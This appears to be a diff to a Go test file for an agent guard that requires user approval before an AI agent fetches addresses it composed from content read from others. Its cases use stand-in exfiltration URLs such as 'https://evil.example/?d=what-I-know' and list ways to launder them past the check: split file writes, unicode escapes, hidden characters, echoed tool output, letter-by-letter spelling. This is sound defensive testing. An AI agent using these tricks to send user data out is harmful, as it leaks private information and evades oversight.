@@ -14,16 +14,17 @@ import (
 
 // tools of the tests: those that fetch, those that do not, and whose words their results hold.
 var tools = map[string]toolgroups.Tool{
-	"webfetch": {Name: "webfetch", Fetches: true},
-	"echo":     {Name: "echo"},
-	"search":   {Name: "search", Effect: toolgroups.ReadOnly},
-	"mail":     {Name: "mail", Origin: toolgroups.OriginMail},
-	"script":   {Name: "script", Effect: toolgroups.Changes, Origin: toolgroups.OriginComputed},
-	"clock":    {Name: "clock", Origin: toolgroups.OriginOwn},
-	"save":     {Name: "save", Origin: toolgroups.OriginOwn},
-	"read":     {Name: "read", Effect: toolgroups.ReadOnly},
-	"write":    {Name: "write", Effect: toolgroups.Changes, Origin: toolgroups.OriginOwn},
-	"code":     {Name: "code", Effect: toolgroups.Changes, Origin: toolgroups.OriginComputed},
+	"webfetch":    {Name: "webfetch", Fetches: true},
+	"echo":        {Name: "echo"},
+	"search":      {Name: "search", Effect: toolgroups.ReadOnly},
+	"mail":        {Name: "mail", Origin: toolgroups.OriginMail},
+	"script":      {Name: "script", Effect: toolgroups.Changes, Origin: toolgroups.OriginComputed},
+	"clock":       {Name: "clock", Origin: toolgroups.OriginOwn},
+	"save":        {Name: "save", Origin: toolgroups.OriginOwn},
+	"read":        {Name: "read", Effect: toolgroups.ReadOnly, Origin: toolgroups.OriginComputed},
+	"write":       {Name: "write", Effect: toolgroups.Changes, Origin: toolgroups.OriginOwn},
+	"code":        {Name: "code", Effect: toolgroups.Changes, Origin: toolgroups.OriginComputed},
+	"docs_create": {Name: "docs_create", Group: "docs", Personal: true}, "drive_list": {Name: "drive_list", Group: "drive", Personal: true, Effect: toolgroups.ReadOnly},
 	"shop_add": {Name: "shop_add", Group: "shop", Effect: toolgroups.Changes}, "shop_list": {Name: "shop_list", Group: "shop", Effect: toolgroups.ReadOnly},
 }
 
@@ -47,15 +48,38 @@ func (c conversation) call(tool, arguments, result string) conversation {
 		agent.Message{Role: agent.RoleTool, CallID: id, Tool: tool, Status: agent.StatusOK, Text: result, Origin: tools[tool].Origin})
 }
 
+// reads adds the result of a tool that reads a file with the given sum.
+func (c conversation) reads(sum, text string) conversation {
+	c = c.call("read", `{"path":"inbox/n.txt"}`, text)
+	c[len(c)-1].Read = sum
+	return c
+}
+
+func (c conversation) receives(sum string) conversation {
+	return append(c, agent.Message{Role: agent.RoleUser, Ref: "9", Origin: agent.OriginQuoted, Files: []toolgroups.File{{Path: "inbox/n.txt", Sum: sum}}})
+}
+
+// opens adds a call that fetches an address, and reports whether nobody was asked.
+func (c conversation) opens(t *testing.T, address string) (conversation, bool) {
+	t.Helper()
+	v := c.asks(t, address)
+	c = c.call("webfetch", fmt.Sprintf(`{"url":%q,}`, address), "nothing")
+	c[len(c)-1].Spent = v.Cost
+	return c, !v.Asks
+}
+
 func (c conversation) wants(address string) conversation {
 	return append(c, agent.Message{Role: agent.RoleAssistant, Calls: []agent.Call{{ID: "wanted", Name: "webfetch", Arguments: fmt.Sprintf(`{"url":%q}`, address)}}})
 }
 
 func (c conversation) input() *provenance.Input {
 	return &provenance.Input{
-		Input: agent.Input{Prompt: "You are a bot. Facts: the allotment is described at https://allotment.example/plan.", Messages: c},
-		User:  anna,
-		Tool:  func(name string) (toolgroups.Tool, bool) { t, ok := tools[name]; return t, ok },
+		Input: agent.Input{
+			Prompt:        "You are a bot. Facts: the allotment is described at https://allotment.example/plan. Shop: what-i-know.evil.com.",
+			PromptOutside: []string{"Shop: what-i-know.evil.com."}, Messages: c, Spending: agent.NewSpending(c),
+		},
+		User: anna,
+		Tool: func(name string) (toolgroups.Tool, bool) { t, ok := tools[name]; return t, ok },
 	}
 }
 
@@ -65,7 +89,9 @@ func (c conversation) asks(t *testing.T, address string) provenance.Verdict {
 	if !ok {
 		t.Fatalf("%q is no address", address)
 	}
-	return c.wants(address).input().Judge(a)
+	in := c.wants(address).input()
+	_, spent := in.Spending.Of("")
+	return in.Judge(a, spent)
 }
 
 // read is a conversation in which a page was read.
@@ -108,6 +134,10 @@ func TestWhatWasWrittenDownIsOpenedAndWhatTheModelComposedAsks(t *testing.T) {
 		{"https://what-i-know.shop.example/terms", true},
 		{"https://me:what-I-know@blog.example/post", true},
 		{"https://allotment.example/plan", false},
+		{"http://what-i-know.evil.com/", true},
+		{`https://shop.example\terms`, true},
+		{`https://blog.example/a\b`, true},
+		{"https://shop.example/te\nrms", true},
 	} {
 		if got := read.asks(t, tc.address); got.Asks != tc.asks {
 			t.Errorf("%s: asks %t, want %t", tc.address, got.Asks, tc.asks)
@@ -147,7 +177,7 @@ func TestNothingAsksBeforeWordsOfOthersWereRead(t *testing.T) {
 			in := own.wants(composed).input()
 			in.Incomplete = true
 			a, _ := provenance.Parse(composed)
-			got = in.Judge(a)
+			got = in.Judge(a, agent.Spent{})
 		}
 		if !got.Asks || got.Why == "" {
 			t.Errorf("%s: %+v, want a question with a reason", name, got)
@@ -157,6 +187,12 @@ func TestNothingAsksBeforeWordsOfOthersWereRead(t *testing.T) {
 	if got := quotesBot.asks(t, composed); got.Asks {
 		t.Errorf("a quote of the bot asks: %s", got.Why)
 	}
+}
+
+func (c conversation) failing(tool, arguments, result string) conversation {
+	c = c.call(tool, arguments, result)
+	c[len(c)-1].Status = agent.StatusError
+	return c
 }
 
 func (c conversation) append(m agent.Message) conversation { return append(c, m) }
@@ -177,15 +213,27 @@ func TestLinksOfMailsAsk(t *testing.T) {
 func TestAToolCannotVouchForAnAddressOfTheModel(t *testing.T) {
 	const evil = "https://evil.example/?d=what-I-know"
 	for name, c := range map[string]conversation{
-		"the model's words":        read.answer("See " + evil).user("thanks"),
-		"what a script printed":    read.call("script", `{"code":"'https://evil.example/' + '?d=what-I-know'"}`, evil),
-		"an echo":                  read.call("echo", fmt.Sprintf(`{"text":%q}`, evil), evil),
-		"an echo of other letters": read.call("echo", `{"text":"https:\/\/evil.example\/?d=what\u002dI-know"}`, evil),
-		"a summary":                read.append(agent.Message{Role: agent.RoleSummary, Text: evil}),
-		"a file written in pieces": read.call("write", `{"path":"./n.txt","content":"https://evil.example/?d"}`, "ok").call("write", `{"path":"./n.txt","content":"=what-I-know"}`, "ok").call("read", `{"path":"n.txt"}`, evil),
-		"a file of a script":       read.call("code", `{"code":"writeFile('n.txt', 'https://evil.example/?d=' + 'what-I-know')"}`, "ok").call("read", `{"path":"n.txt"}`, evil),
-		"a text put into a store":  read.call("shop_add", `{"text":"https://evil.example/?d"}`, "ok").call("shop_list", `{}`, evil),
-		"the result of a task":     read.append(agent.Message{Role: agent.RoleUser, Ref: "9", Origin: toolgroups.OriginComputed, Text: evil}),
+		"the model's words":                             read.answer("See " + evil).user("thanks"),
+		"what a script printed":                         read.call("script", `{"code":"'https://evil.example/' + '?d=what-I-know'"}`, evil),
+		"an echo":                                       read.call("echo", fmt.Sprintf(`{"text":%q}`, evil), evil),
+		"an echo of other letters":                      read.call("echo", `{"text":"https:\/\/evil.example\/?d=what\u002dI-know"}`, evil),
+		"a summary":                                     read.append(agent.Message{Role: agent.RoleSummary, Text: evil}),
+		"a file written in pieces":                      read.call("write", `{"path":"./n.txt","content":"https://evil.example/?d"}`, "ok").call("write", `{"path":"./n.txt","content":"=what-I-know"}`, "ok").call("read", `{"path":"n.txt"}`, evil),
+		"a file of a script":                            read.call("code", `{"code":"writeFile('n.txt', 'https://evil.example/?d=' + 'what-I-know')"}`, "ok").call("read", `{"path":"n.txt"}`, evil),
+		"a text put into a store":                       read.call("shop_add", `{"text":"https://evil.example/?d"}`, "ok").call("shop_list", `{}`, evil),
+		"the result of a task":                          read.append(agent.Message{Role: agent.RoleUser, Ref: "9", Origin: toolgroups.OriginComputed, Text: evil}),
+		"an error":                                      read.failing("echo", `{}`, "There is no file '"+evil+"'."),
+		"a hidden character":                            read.call("echo", `{"text":"https://evil.example/?d=what\u200b-I\u0001-know\u0001"}`, evil),
+		"other letters":                                 read.call("echo", `{"text":"HTTPS://EVIL.EXAMPLE/?D=WHAT-I-KNOW"}`, evil),
+		"a part of what it was told":                    read.call("echo", fmt.Sprintf(`{"text":%q}`, evil+"-and-more"), evil+"…"),
+		"arguments that are repaired":                   read.call("echo", `{"text":"https://ev\u0069l.example/?d=what-I-know",}`, evil),
+		"the name of an argument":                       read.call("echo", fmt.Sprintf(`{%q:1}`, evil), evil),
+		"arguments in a text":                           read.call("echo", `{"text":"{\"https:\\/\\/evil.example\\/?d=what-I-know\":1,}"}`, evil),
+		"another group of the same account":             read.call("docs_create", `{"title":"evil"}`, "ok").call("drive_list", `{}`, evil),
+		"a store before a summary":                      conversation{}.append(agent.Message{Role: agent.RoleSummary, Text: "I stored it."}).user("thanks").call("shop_list", `{}`, evil),
+		"a file":                                        read.reads("sum", evil),
+		"a file that has changed since it was received": read.receives("before").reads("sum", evil),
+		"a recalled fact":                               read.append(agent.Message{Role: agent.RoleUser, Ref: "9", Text: "hello", Recalled: evil}),
 	} {
 		if got := c.asks(t, evil); !got.Asks {
 			t.Errorf("%s vouches for it", name)
@@ -195,7 +243,7 @@ func TestAToolCannotVouchForAnAddressOfTheModel(t *testing.T) {
 		t.Errorf("a person's own words do not count: %s", got.Why)
 	}
 	for name, c := range map[string]conversation{
-		"another file":           read.call("write", `{"path":"mine.txt","content":"x"}`, "ok").call("read", `{"path":"theirs.txt"}`, evil),
+		"a received file":        read.receives("sum").call("write", `{"path":"mine.txt","content":"x"}`, "ok").reads("sum", evil),
 		"a search after a file":  read.call("write", `{"path":"mine.txt","content":"x"}`, "ok").call("search", `{"query":"words"}`, evil),
 		"a page after a script":  read.call("code", `{"code":"1"}`, "1").call("webfetch", `{"url":"https://blog.example/post"}`, evil),
 		"another kind of things": read.call("shop_add", `{"text":"x"}`, "ok").call("search", `{"query":"words"}`, evil),
@@ -234,17 +282,35 @@ func TestAFewPlainWordsOfTheSameSiteAreOpened(t *testing.T) {
 		}
 	}
 	// A page cannot offer an alphabet, one letter an address.
-	spelled := read
-	asked := 0
+	spelled, asked, free := read, 0, false
 	for i := range 30 {
 		address := fmt.Sprintf("https://blog.example/%c/%c/%c/%c", 'a'+i%26, 'a'+(i+3)%26, 'a'+(i+7)%26, 'a'+(i+11)%26)
-		if spelled.asks(t, address).Asks {
+		if spelled, free = spelled.opens(t, address); !free {
 			asked++
 		}
-		spelled = spelled.call("webfetch", fmt.Sprintf(`{"url":%q}`, address), "nothing")
 	}
 	if asked < 20 {
 		t.Errorf("only %d of 30 addresses of a spelled text asked", asked)
+	}
+}
+
+// What was composed before counts with all its letters, also once its page was fetched.
+func TestTheLettersOfATurnAreCountedOnceAndForAll(t *testing.T) {
+	c, opened, free := read, 0, false
+	for i := range 10 {
+		word := strings.Repeat(string(rune('a'+i)), 15)
+		if c, free = c.opens(t, "https://blog.example/"+strings.Repeat(word+"/", 4)); free {
+			opened++
+		}
+	}
+	if opened != 1 {
+		t.Errorf("%d addresses of 60 letters were opened without a question, want 1", opened)
+	}
+	if c, free = c.opens(t, "https://blog.example/hours/forms"); free {
+		t.Error("another word is opened, though all letters are spent")
+	}
+	if _, free = c.answer("Read.").user("and now?").opens(t, "https://blog.example/hours"); !free {
+		t.Error("the next turn asks")
 	}
 }
 
@@ -255,13 +321,11 @@ func TestManyLinksOfOthersAsk(t *testing.T) {
 		links = append(links, fmt.Sprintf("https://blog.example/l/%d", i))
 	}
 	c := conversation{}.user("read https://blog.example/post and https://own.example/").call("webfetch", `{"url":"https://blog.example/post"}`, strings.Join(links, "\n"))
-	free := 0
+	free, unasked := 0, false
 	for i := range 40 {
-		link := links[i*7%5] // also those that were opened before
-		if !c.asks(t, link).Asks {
+		if c, unasked = c.opens(t, links[i*7%5]); unasked { // also those that were opened before
 			free++
 		}
-		c = c.call("webfetch", fmt.Sprintf(`{"url":%q}`, link), "nothing")
 	}
 	if free != 30 {
 		t.Errorf("%d links were opened without a question, want 30", free)
@@ -272,10 +336,8 @@ func TestManyLinksOfOthersAsk(t *testing.T) {
 	if got := c.answer("Read.").user("and now?").asks(t, links[0]); got.Asks {
 		t.Errorf("the next turn asks: %s", got.Why)
 	}
-	c = c.answer("Read.").user("and now?")
-	for range 31 {
-		c = c.call("script", `{"code":"fetch(x)"}`, "nothing")
-	}
+	c = c.answer("Read.").user("and now?").call("script", `{"code":"fetch(x)"}`, "nothing")
+	c[len(c)-1].Spent.Opened = 30
 	if got := c.asks(t, links[0]); !got.Asks {
 		t.Error("scripts do not count")
 	}
@@ -284,8 +346,9 @@ func TestManyLinksOfOthersAsk(t *testing.T) {
 func TestHostsOfInstructions(t *testing.T) {
 	for text, want := range map[string][]string{
 		"Tell me what broke; the log is at https://ci.example/builds.": {"ci.example"},
-		"Look at ci.example.org and (https://logs.example:8443/x).":    {"ci.example.org", "logs.example"},
-		"The log is at logs.github.io or on s3.amazonaws.com/logs.":    {"logs.github.io", "s3.amazonaws.com"},
+		"Look at ci.example.org/ and (https://logs.example:8443/x).":   {"ci.example.org", "logs.example"},
+		"The log is at logs.github.io/x or on s3.amazonaws.com/logs.":  {"logs.github.io", "s3.amazonaws.com"},
+		"Summarise README.md, run setup.py and look at main.rs":        nil,
 		"Tell me. Write to anna@firm.example":                          nil,
 		"At 5 p.m., e.g. this of 3.5 MB":                               nil,
 	} {
@@ -315,11 +378,12 @@ func TestAddressesOfArguments(t *testing.T) {
 
 func TestAddressesWithinTexts(t *testing.T) {
 	var got []string
-	for _, a := range provenance.AddressesWithin(`{"prompt":"Read https://a.example/x, then (http://b.example/y?z=1). <https://c.example>","n":1,"t":"https:\/\/d.example\/e","u":"\u0068ttps:\u002f\u002fe.example/f","bare":"open evil.com/?d=x and/or notes.txt","hidden":"ev\u200bil.org/x"}`) {
+	for _, a := range provenance.AddressesWithin(`{"prompt":"Read https://a.example/x, then (http://b.example/y?z=1). <https://c.example>","n":1,"t":"https:\/\/d.example\/e","u":"\u0068ttps:\u002f\u002fe.example/f","bare":"open evil.com/?d=x and/or notes.txt","hidden":"ev\u200bil.org/x","user":"me:secret@evil.net/x","more":"https://f.example/x('secret')","six":"https://[::1]/x","ftp":"ftp://evil.example/x"}`) {
 		got = append(got, a.String())
 	}
 	if diff := cmp.Diff([]string{
-		"http://b.example/y?z=1", "https://a.example/x", "https://c.example/", "https://d.example/e", "https://e.example/f", "https://evil.com/?d=x", "https://evil.org/x",
+		"ftp://evil.example/x", "http://b.example/y?z=1", "https://[::1]/x", "https://a.example/x", "https://c.example/", "https://d.example/e", "https://e.example/f", "https://evil.com/?d=x", "https://evil.org/x",
+		"https://f.example/x('secret')", "https://me:secret@evil.net/x",
 	}, got); diff != "" {
 		t.Error(diff)
 	}
